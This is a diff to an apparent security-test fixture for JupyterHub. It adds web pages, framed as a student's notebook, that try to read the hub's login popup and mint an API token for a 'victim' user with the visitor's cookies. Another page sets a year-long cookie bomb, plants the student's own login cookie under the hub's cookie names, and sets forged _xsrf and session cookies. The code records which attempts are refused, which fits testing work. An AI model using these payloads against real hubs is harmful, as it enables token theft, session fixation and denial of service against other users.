@@ -13,11 +13,25 @@ hub's whole name. Each attempt is written down as "got ..." or "refused: ..." in
 element `#out` (JSON), and the page's title becomes "done". Two controls show that the
 script itself works: it reads a file of its own origin (`control-fetch`) and, on a second
 click ("Show the legend"), a popup of its own origin (`control-popup`).
+
+`LOGIN_PAGE` and `COOKIE_PAGE` are the walk of 7 December 2026's: the hub's login page
+opened on the student's own name, and cookies set for the hub's whole name.
 """
 
 from __future__ import annotations
 
 OTHER = "<!doctype html><title>legend</title><p>the chart's legend</p>\n"
+# Each page's way of writing down what each attempt got, in `#out` (JSON).
+NOTES = r"""const results = {};
+const sleep = ms => new Promise(done => setTimeout(done, ms));
+function note(what, how) {
+  results[what] = String(how);
+  document.getElementById("out").textContent = JSON.stringify(results);
+}
+async function attempt(what, act) {
+  try { note(what, "got " + await act()); } catch (error) { note(what, "refused: " + error); }
+}
+"""
 
 PAGE = r"""<!doctype html>
 <html><head><title>question</title></head>
@@ -30,16 +44,7 @@ const query = new URLSearchParams(location.search);
 const victim = query.get("victim"), hub = query.get("hub"), marker = query.get("marker");
 const hubName = new URL(hub).host;
 const server = location.protocol + "//" + victim + "." + hubName + "/user/" + victim + "/";
-const results = {};
-const sleep = ms => new Promise(done => setTimeout(done, ms));
-
-function note(what, how) {
-  results[what] = String(how);
-  document.getElementById("out").textContent = JSON.stringify(results);
-}
-async function attempt(what, act) {
-  try { note(what, "got " + await act()); } catch (error) { note(what, "refused: " + error); }
-}
+// NOTES
 function frame(src) {
   const element = document.createElement("iframe");
   element.src = src;
@@ -113,6 +118,86 @@ document.getElementById("legend").onclick = async () => {
   await attempt("control-popup", () => read(own));
 };
 if (query.get("mode") === "frame") attackInFrames();
+</script>
+</body></html>
+""".replace("// NOTES\n", NOTES)
+
+
+# The walk of 7 December 2026 (A3): the hub's own login page, opened by a student's page in a
+# popup on her own name, read as the instructor typed into it, then the hub's API asked for a
+# token as him. `LOGIN_PAGE?victim=NAME` tries, on a click of "Sign in to see my chart", the
+# popup of /hub/login on the page's own origin (read once loaded), and the hub's API on that
+# origin, with the visitor's cookies: whoever they are, and a token for `victim`. Each attempt
+# is written down in `#out` as "got ..." or "refused: ...", and the title becomes "done".
+LOGIN_PAGE = r"""<!doctype html>
+<html><head><title>login</title></head>
+<body>
+<p>My chart needs you to sign in again.</p>
+<button id="show">Sign in to see my chart</button>
+<pre id="out">{}</pre>
+<script>
+const victim = new URLSearchParams(location.search).get("victim");
+// NOTES
+async function read(win) {
+  let last = "never loaded";
+  for (let i = 0; i < 40; i++) {
+    await sleep(250);
+    try {
+      if (win.document.readyState === "complete" && win.location.href !== "about:blank")
+        return win.location.href + " " + win.document.title + " form:" +
+          Boolean(win.document.querySelector("#username_input"));
+    } catch (error) { last = error; }
+  }
+  throw last;
+}
+document.getElementById("show").onclick = async () => {
+  const login = window.open(location.origin + "/hub/login");
+  await attempt("popup-login", () => read(login));
+  await attempt("whoami", async () => {
+    const answer = await fetch(location.origin + "/hub/api/user", {credentials: "include"});
+    return answer.status + " " + (await answer.text()).slice(0, 80);
+  });
+  await attempt("token", async () => {
+    const answer = await fetch(location.origin + "/hub/api/users/" + victim + "/tokens", {
+      method: "POST", credentials: "include", headers: {"Content-Type": "application/json"},
+      body: JSON.stringify({note: "made by a student's page"})});
+    return answer.status + " " + (await answer.text()).slice(0, 80);
+  });
+  document.title = "done";
+};
+</script>
+</body></html>
+""".replace("// NOTES\n", NOTES)
+
+# The walk's A4 and A5: a student's page, opened once (no click), sets cookies for the hub's
+# whole name: COOKIE_PAGE?hub=HUB&login=VALUE&victim=NAME[&xsrf=X] sets thirty cookies of 3,800 bytes
+# (the bomb: 431 for every later request of the visitor, for a year), the same names on the
+# victim's paths, login cookies of the student's own (VALUE: her own login cookie, copied
+# from her browser) under the hub's names, with and without __Host- (which no browser lets a
+# page set for another name), and an _xsrf cookie (`xsrf`: her own, copied; else a forged
+# one) on the hub's login path and on the victim's server's paths. The title becomes "done" with the number of cookies it set.
+COOKIE_PAGE = r"""<!doctype html>
+<html><head><title>cookies</title></head>
+<body>
+<p>Thanks for looking at my notebook!</p>
+<script>
+const query = new URLSearchParams(location.search);
+const hubName = new URL(query.get("hub")).hostname, victim = query.get("victim");
+const login = query.get("login"), year = 365 * 24 * 3600;
+const big = "x".repeat(3800);
+const scope = "; domain=" + hubName + "; max-age=" + year + "; secure";
+for (let i = 0; i < 30; i++) document.cookie = "bomb" + i + "=" + big + scope + "; path=/";
+for (let i = 0; i < 10; i++)
+  document.cookie = "jupyterhub-user-" + victim + "-oauth-state-" + i + "=" + big + scope +
+    "; path=/user/" + victim + "/";
+for (const path of ["/", "/hub/", "/hub/home"]) {
+  document.cookie = "jupyterhub-hub-login=" + login + scope + "; path=" + path;
+  document.cookie = "__Host-jupyterhub-hub-login=" + login + scope + "; path=" + path;
+}
+for (const path of ["/hub/", "/hub/login", "/user/" + victim + "/", "/user/" + victim + "/api/"])
+  document.cookie = "_xsrf=" + (query.get("xsrf") || "forged") + scope + "; path=" + path;
+document.cookie = "jupyterhub-session-id=forged" + scope + "; path=/";
+document.title = "done " + document.cookie.split(";").length;
 </script>
 </body></html>
 """
